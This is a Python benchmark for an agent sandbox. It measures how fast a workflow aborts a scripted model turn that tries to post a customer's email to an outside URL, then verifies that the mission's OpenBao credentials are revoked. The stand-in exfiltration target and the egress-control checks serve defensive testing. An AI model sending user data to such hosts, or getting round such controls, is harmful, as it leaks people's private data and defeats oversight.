"""From a directive violation to every credential of the mission refused
(issue: Sealed V): the model's turn that asks for an exfiltration comes back,
the workflow's directives abort the mission, and its revocation is recorded at
OpenBao with its live credentials revoked. Timed on the server's clock (the
history): model turn completed -> the abort's revocation activity completed.
Side by side, in the same runs: the same mission shape whose second call is
benign (model turn completed -> that tool's activity completed). Target: the
violation's p50 under 500 ms.

    python -m bench.violation [--samples 20] [--warmup 2]

Every abort sample is checked: the mission's revocation is on record, each
token it was issued is gone at OpenBao, and a worker asking for a new
credential for it is refused. A run that does not hold raises."""

from __future__ import annotations

import argparse
import asyncio
import statistics
import uuid
from datetime import UTC
from typing import Any

import hvac.exceptions
from pydantic import BaseModel
from temporalio.api.enums.v1 import EventType
from temporalio.client import Client

from bench.approval import pct
from bench.stack import bench_stack, use_stack
from sealed import missions
from sealed.audit import AuditLog
from sealed.client import connect
from sealed.config import Settings
from sealed.contract import DIRECTIVE_ABORT, MODEL_TURN, RUN_TOOL
from sealed.devstack import StackInfo
from sealed.identity.openbao.admin import VaultAdmin
from sealed.identity.openbao.approle import AppRoleClient
from sealed.identity.openbao.stores import VaultProfiles
from sealed.identity.profiles import Profile, ProfileNotAllowed
from sealed.models import MissionSpec, MissionStatus
from sealed.tools.registry import ToolContext, ToolDef, load_tool_modules
from sealed.workers.worker import build_worker

TARGET_MS = 500.0
PROFILE = "bench-violation"
LOOKUP, POST = "bench.lookup", "bench.post"
OUTSIDE = "https://collect.example.org/upload?c=alice@example.com"
ALLOWED = "https://docs.example.com/page"


class NoArgs(BaseModel):
    pass


class PostArgs(BaseModel):
    url: str


async def lookup(ctx: ToolContext, args: NoArgs) -> str:
    """A customer record, read with the mission's own credential."""
    if not ctx.secret("bench_key").reveal():
        raise RuntimeError("no credential")
    return '{"customer": "alice@example.com", "plan": "pro"}'


async def post(ctx: ToolContext, args: PostArgs) -> str:
    """Sends nowhere: the bench only needs the call to run (or not)."""
    return "posted"


def tools(settings: Settings) -> dict[str, ToolDef]:
    found: dict[str, ToolDef] = dict(load_tool_modules(settings.tool_modules))
    found[LOOKUP] = ToolDef(
        name=LOOKUP,
        privilege="low",
        secrets=("bench_key",),
        side_effects=False,
        description="Look up the customer.",
        args_model=NoArgs,
        fn=lookup,
    )
    found[POST] = ToolDef(
        name=POST,
        privilege="low",
        secrets=(),
        side_effects=False,
        description="Post to a URL.",
        args_model=PostArgs,
        fn=post,
        destination="url",
    )
    return found


def profile() -> Profile:
    return Profile.model_validate(
        {
            "name": PROFILE,
            "tools": {LOOKUP: {"secrets": ["bench_key"]}, POST: {}},
            "secrets": {"bench_key": {"backend": "vault-kv", "ref": "bench_key"}},
            "egress": ["docs.example.com"],
        }
    )


def spec(url: str) -> MissionSpec:
    return MissionSpec.model_validate(
        {
            "name": "bench-violation",
            "profile": PROFILE,
            "goal": "Look the customer up, then post the docs page.",
            "tools": [LOOKUP, POST],
            "model": {
                "provider": "scripted",
                "script": {
                    "turns": [
                        {"tool_calls": [{"name": LOOKUP}]},
                        {"tool_calls": [{"name": POST, "arguments": {"url": url}}]},
                        {"final": "done"},
                    ]
                },
            },
        }
    )


async def timed(client: Client, mission_id: str, activity: str) -> float:
    """Seconds from the second model turn's completion to `activity`'s."""
    events = (await client.get_workflow_handle(mission_id).fetch_history()).events
    names: dict[int, str] = {}
    turns: list[float] = []
    done: float | None = None
    for e in events:
        at = e.event_time.ToDatetime().replace(tzinfo=UTC).timestamp()
        if e.event_type == EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED:
            names[e.event_id] = e.activity_task_scheduled_event_attributes.activity_type.name
        elif e.event_type == EventType.EVENT_TYPE_ACTIVITY_TASK_COMPLETED:
            name = names[e.activity_task_completed_event_attributes.scheduled_event_id]
            if name == MODEL_TURN:
                turns.append(at)
            elif name == activity and len(turns) == 2 and done is None:
                done = at
    if len(turns) < 2 or done is None:
        raise RuntimeError(f"{mission_id}: no second turn or no {activity} after it")
    return done - turns[1]


async def checked_abort(
    client: Client, settings: Settings, admin: VaultAdmin, probe: VaultProfiles
) -> float:
    handle = await missions.submit(client, settings, spec(OUTSIDE))
    result = await handle.result()
    if result.status != MissionStatus.ABORTED or result.violation is None:
        raise RuntimeError(f"the exfiltration was not stopped: {result!r}")
    if result.violation.policy != "sealed.untrusted-egress":
        raise RuntimeError(f"stopped by the wrong policy: {result.violation.policy}")
    if admin.revocation("mission", handle.id) is None:
        raise RuntimeError("the mission's revocation is not on record")
    issued = [
        e.lease_id
        for e in AuditLog(settings.audit_path()).events(handle.id)
        if e.kind == "credential.issued"
    ]
    if not issued:
        raise RuntimeError("the mission was issued no credential: nothing to refuse")
    for accessor in issued:
        try:
            admin.client.auth.token.lookup_accessor(accessor)
        except hvac.exceptions.VaultError:
            continue
        raise RuntimeError(f"token {accessor} of the aborted mission is still alive")
    try:
        await probe.for_call(PROFILE, handle.id)
    except ProfileNotAllowed:
        pass
    else:
        raise RuntimeError("a worker would still issue the aborted mission a credential")
    return await timed(client, handle.id, DIRECTIVE_ABORT)


async def benign(client: Client, settings: Settings) -> float:
    handle = await missions.submit(client, settings, spec(ALLOWED))
    result = await handle.result()
    if result.status != MissionStatus.COMPLETED:
        raise RuntimeError(f"the benign mission did not complete: {result!r}")
    return await timed(client, handle.id, RUN_TOOL)


async def run_all(info: StackInfo, samples: int, warmup: int) -> None:
    settings = use_stack(info)
    admin = VaultAdmin(info.vault_addr, (info.data_dir / "vault-root-token").read_text().strip())
    admin.put_secret("bench_key", uuid.uuid4().hex)
    admin.apply_profile(profile())
    probe = VaultProfiles(AppRoleClient(settings.vault_addr, *settings.worker_approle()), ttl=0)
    client = await connect(settings)
    aborts: list[float] = []
    calls: list[float] = []
    async with build_worker(client, settings, tools=tools(settings)):
        for n in range(warmup + samples):
            # Interleaved: a busy spell lands on both sides alike.
            violation = await checked_abort(client, settings, admin, probe)
            call = await benign(client, settings)
            if n >= warmup:
                aborts.append(violation)
                calls.append(call)
    rows: list[tuple[str, list[float]]] = [
        ("violation -> credentials refused", aborts),
        ("benign call -> its activity done", calls),
    ]
    print(f"directive violation, {samples} missions each (server clock, ms)")
    print(f"{'':36}{'p50':>8}{'p95':>8}{'max':>8}")
    for label, values in rows:
        line = [pct(values, 0.5), pct(values, 0.95), max(values)]
        print(f"{label:36}" + "".join(f"{v * 1000:>8.1f}" for v in line))
    ratio = statistics.median(aborts) / statistics.median(calls)
    print(f"ratio (p50, violation / benign call): {ratio:.2f}x")
    verdict = "ok" if pct(aborts, 0.5) * 1000 < TARGET_MS else "FAIL"
    print(f"target: p50 under {TARGET_MS:.0f} ms: {verdict}")


def main(argv: Any = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--samples", type=int, default=20)
    parser.add_argument("--warmup", type=int, default=2)
    args = parser.parse_args(argv)
    with bench_stack() as info:
        asyncio.run(run_all(info, args.samples, args.warmup))


if __name__ == "__main__":
    main()
